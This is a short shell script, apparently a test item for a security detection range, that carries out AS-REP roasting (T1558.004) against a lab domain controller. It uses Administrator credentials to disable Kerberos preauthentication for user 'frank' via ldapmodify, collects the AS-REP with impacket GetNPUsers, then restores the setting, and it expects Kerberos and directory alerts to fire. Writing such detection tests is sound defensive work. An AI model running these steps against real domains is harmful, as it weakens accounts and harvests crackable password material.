# SPDX-License-Identifier: Apache-2.0
# what: a person told to need no preauthentication (LDAP), its answer taken, and told back
# technique: T1558.004
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: alert krb,directory
. "$RANGE_HERE/item.sh"
uac() { # NUMBER
	printf 'dn: CN=frank,CN=Users,DC=corp,DC=range,DC=test\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' $1 >"$HOME/ldif"
	ldapmodify -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" -f "$HOME/ldif"
}
at ws2 sh -c "echo '$USER_PASSWORD' | kinit bob" || exit 1 # the controller demands proof of others
uac 4194816 || exit 1
echo frank >"$HOME/users"
says krb5asrep impacket GetNPUsers "$DOMAIN_DNS/" -usersfile "$HOME/users" -no-pass -dc-ip $dc1
ok=$?
uac 512
exit $ok
